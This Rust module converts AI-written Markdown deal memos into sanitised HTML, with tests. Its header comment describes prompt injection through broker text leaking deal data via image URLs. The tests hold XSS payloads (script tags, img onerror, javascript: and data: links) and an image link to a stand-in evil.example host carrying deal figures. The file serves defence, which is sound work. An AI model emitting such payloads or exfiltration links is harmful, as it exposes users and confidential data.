//! Markdown to HTML for model output (memos and chat replies): raw HTML in the Markdown is shown as text; links
//! may only point at http(s) or mailto addresses and open with `rel="noopener
//! noreferrer"`; images are never loaded (a prompt injected through broker text could
//! otherwise leak deal data in an image URL): their alt text is shown instead. Table
//! cells holding a figure ($, %, SF, multiples) are marked `class="num"` to be set
//! right-aligned, unless the table gives the column its own alignment.

use pulldown_cmark::{Alignment, CowStr, Event, Options, Parser, Tag, TagEnd, html};
use pulldown_cmark_escape::{escape_href, escape_html};

/// The parser every rendering of a memo uses (HTML here, Word in `docx`).
pub fn parse(markdown: &str) -> Parser<'_> {
    Parser::new_ext(markdown, Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH)
}

/// Whether a table cell's text is a figure: it has a digit, and besides digits only
/// signs, separators, currency and units ("$24.5M", "6.1%", "(1,200)", "98,000 SF", "1.4x").
pub fn is_figure(text: &str) -> bool {
    const UNITS: [&str; 12] = ["/sf", "psf", "sf", "bps", "mm", "bn", "yrs", "m", "k", "b", "x", "%"];
    let mut rest = text.trim().to_ascii_lowercase();
    if !rest.chars().any(|c| c.is_ascii_digit()) || is_date(&rest) {
        return false;
    }
    // Units may follow the number, separated by a space or not.
    while let Some(unit) = UNITS.iter().find(|u| rest.ends_with(**u)) {
        rest.truncate(rest.len() - unit.len());
        rest = rest.trim_end().to_string();
    }
    rest.chars().all(|c| c.is_ascii_digit() || "$,.+-()~ ".contains(c) || c == '–' || c == '≈' || c == '×')
}

/// `YYYY-MM` or `YYYY-MM-DD`: a date, read as text, not a figure.
fn is_date(text: &str) -> bool {
    let parts: Vec<&str> = text.split('-').collect();
    parts.len() >= 2 && parts.len() <= 3 && parts[0].len() == 4 && parts.iter().all(|p| !p.is_empty() && p.len() <= 4 && p.bytes().all(|b| b.is_ascii_digit()))
}

/// The events of `markdown` with each figure in a table body marked for alignment.
fn with_figures_marked<'a>(events: impl Iterator<Item = Event<'a>>) -> Vec<Event<'a>> {
    let mut events: Vec<Event<'a>> = events.collect();
    let mut alignments: Vec<Alignment> = Vec::new();
    let (mut in_head, mut column) = (false, 0usize);
    for i in 0..events.len() {
        match &events[i] {
            Event::Start(Tag::Table(a)) => alignments = a.clone(),
            Event::Start(Tag::TableHead) => in_head = true,
            Event::End(TagEnd::TableHead) => in_head = false,
            Event::Start(Tag::TableRow) => column = 0,
            Event::End(TagEnd::TableCell) => column += 1,
            Event::Start(Tag::TableCell) if !in_head && alignments.get(column).is_none_or(|a| *a == Alignment::None) => {
                let mut text = String::new();
                for e in &events[i + 1..] {
                    match e {
                        Event::End(TagEnd::TableCell) => break,
                        Event::Text(t) | Event::Code(t) => text.push_str(t),
                        _ => {}
                    }
                }
                if is_figure(&text) {
                    events[i] = Event::InlineHtml("<td class=\"num\">".into());
                }
            }
            _ => {}
        }
    }
    events
}

pub fn markdown_to_safe_html(markdown: &str) -> String {
    let events = parse(markdown).map(|event| {
        match event {
            // Escaped, never interpreted.
            Event::Html(raw) | Event::InlineHtml(raw) => Event::Text(raw),
            Event::Start(Tag::Link { dest_url, title, .. }) => Event::InlineHtml(link_open(&dest_url, &title).into()),
            Event::End(TagEnd::Link) => Event::InlineHtml("</a>".into()),
            // An image becomes its alt text, marked as an image not shown.
            Event::Start(Tag::Image { .. }) => Event::InlineHtml("<span class=\"image-omitted\" title=\"Image not loaded\">[image: ".into()),
            Event::End(TagEnd::Image) => Event::InlineHtml("]</span>".into()),
            other => other,
        }
    });
    let mut out = String::with_capacity(markdown.len() * 3 / 2);
    html::push_html(&mut out, with_figures_marked(events).into_iter());
    out
}

/// `<a href=… rel="noopener noreferrer">`, with the address checked and escaped. Built
/// here (not by the renderer) because the renderer cannot add `rel`; every other piece
/// of markup still comes from the renderer, and raw HTML from the model never does.
fn link_open(url: &str, title: &str) -> String {
    let mut out = String::from("<a href=\"");
    let _ = escape_href(&mut out, &safe_url(CowStr::Borrowed(url)));
    out.push('"');
    if !title.is_empty() {
        out.push_str(" title=\"");
        let _ = escape_html(&mut out, title);
        out.push('"');
    }
    out.push_str(" rel=\"noopener noreferrer\" target=\"_blank\">");
    out
}

fn safe_url(url: CowStr<'_>) -> CowStr<'_> {
    let lower = url.trim().to_ascii_lowercase();
    if lower.starts_with("https://") || lower.starts_with("http://") || lower.starts_with("mailto:") {
        url
    } else {
        CowStr::Borrowed("#")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn renders_markdown() {
        let html = markdown_to_safe_html("## Summary\n\n**Buy** at *6.5%*.\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n");
        assert!(html.contains("<h2>Summary</h2>"));
        assert!(html.contains("<strong>Buy</strong>"));
        assert!(html.contains("<li>one</li>"));
        assert!(html.contains("<table>"));
    }

    #[test]
    fn figures_in_tables_are_marked_for_right_alignment() {
        let html = markdown_to_safe_html("| Property | Price | Cap | Note |\n|---|---|---|:-:|\n| Palm Court | $18.2M | 6.4% | 12 |\n| 2024 sale | (1,200) | 98,000 SF | x |\n");
        assert!(html.contains("<td>Palm Court</td><td class=\"num\">$18.2M</td><td class=\"num\">6.4%</td><td style=\"text-align: center\">12</td>"), "{html}");
        assert!(html.contains("<td>2024 sale</td><td class=\"num\">(1,200)</td><td class=\"num\">98,000 SF</td>"), "{html}");
        assert!(html.contains("<th>Price</th>"), "headers stay as they are: {html}");
    }

    #[test]
    fn a_figure_is_a_number_with_units_only() {
        for yes in ["$24,500,000", "6.1%", "98,000 SF", "$250/SF", "1.4x", "-3.5", "(1,200)", "$18.2M", "45 bps", "≈ $0.04"] {
            assert!(is_figure(yes), "{yes}");
        }
        for no in ["Palm Court", "", "—", "Q1 2026 sale", "12 Palm Ave", "n/a", "5 years left", "2024-11-15", "2025-03"] {
            assert!(!is_figure(no), "{no}");
        }
    }

    #[test]
    fn removes_anything_dangerous() {
        let html = markdown_to_safe_html(
            "<script>alert(1)</script>\n\nHi <img src=x onerror=alert(2)> there\n\n[click](javascript:alert(3)) \
             ![x](data:text/html;base64,AAAA) [ok](https://example.com)",
        );
        assert!(!html.contains("<script"), "{html}");
        assert!(!html.contains("<img src=x"), "{html}");
        assert!(!html.contains("javascript:"), "{html}");
        assert!(!html.contains("data:text"), "{html}");
        assert!(html.contains("&lt;script&gt;"), "{html}");
        assert!(html.contains("href=\"https://example.com\""), "{html}");
    }

    #[test]
    fn images_are_never_loaded_and_links_do_not_leak_the_page() {
        let html = markdown_to_safe_html(
            "![deal data](https://evil.example/leak?noi=6.1M) and [source](https://broker.example/a?b=\"c\" \"T<i>\")",
        );
        assert!(!html.contains("<img"), "{html}");
        assert!(!html.contains("evil.example"), "{html}");
        assert!(html.contains("[image: deal data]"), "{html}");
        assert!(html.contains("rel=\"noopener noreferrer\""), "{html}");
        assert!(html.contains("title=\"T&lt;i&gt;\""), "{html}");
        assert!(!html.contains("b=\"c\""), "quotes in addresses are escaped: {html}");
    }
}
